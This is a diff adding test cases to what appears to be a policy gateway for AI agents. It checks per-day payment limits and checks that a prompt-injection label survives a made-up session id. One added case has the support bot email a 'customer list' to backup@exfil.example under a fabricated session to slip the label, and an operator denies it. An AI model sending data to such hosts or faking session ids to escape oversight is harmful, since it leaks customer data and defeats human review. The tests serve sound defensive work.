@@ -429,6 +429,24 @@ pub async fn run(args: Args) -> Result<u8, Exit> {
         },
     );
 
+    d.heading("finance-bot pays 900 € the same day (limits hold per day, not per payment)");
+    let a = d
+        .act(
+            "finance-bot",
+            "payments.send",
+            json!({"iban": "NL91ABNA0417164300", "amount": 900, "reference": "INV-2210"}),
+            "fin-1",
+        )
+        .await;
+    d.check(
+        a.status == 202
+            && a.body["policies"]
+                .as_array()
+                .is_some_and(|p| p.contains(&json!("finance-large-payments"))),
+        "held: with today's 25,000 € the day's total (context.totals.day) is above 1,000 €",
+        &a,
+    );
+
     d.heading("support-bot refunds 800 € (above 100 € needs finance-leads)");
     let a = d
         .act(
@@ -535,6 +553,42 @@ pub async fn run(args: Args) -> Result<u8, Exit> {
     d.check(
         a.status == 200,
         "an internal e-mail from the same session still goes through",
+        &a,
+    );
+    let a = d
+        .act(
+            "support-bot",
+            "email.send",
+            json!({"to": "backup@exfil.example", "subject": "customer list", "body": "retry"}),
+            "a-brand-new-session",
+        )
+        .await;
+    d.check(
+        a.status == 202,
+        "a made-up session id does not shed the label: the request joins the agent's run, held",
+        &a,
+    );
+    let id = a.body["approval_id"].as_str().unwrap_or("").to_owned();
+    d.call(
+        "olga",
+        "POST",
+        &format!("/v1/admin/approvals/{id}/deny"),
+        Some(json!({"comment": "same injection"})),
+    )
+    .await;
+    let a = d
+        .call("admin", "POST", "/v1/admin/agents/support-bot/runs", None)
+        .await;
+    let run = a.body["run"].as_str().unwrap_or("").to_owned();
+    d.check(
+        a.status == 200 && run.starts_with("run_"),
+        "only an operator starts a clean run (a new task), recorded as run.opened",
+        &a,
+    );
+    let a = d.act("support-bot", "email.send", json!({"to": "ada@example.net", "subject": "your refund", "body": "your refund is on its way"}), &run).await;
+    d.check(
+        a.status == 200 && a.body["session"] == json!(run),
+        "in the new run, mail to a customer goes out",
         &a,
     );
 
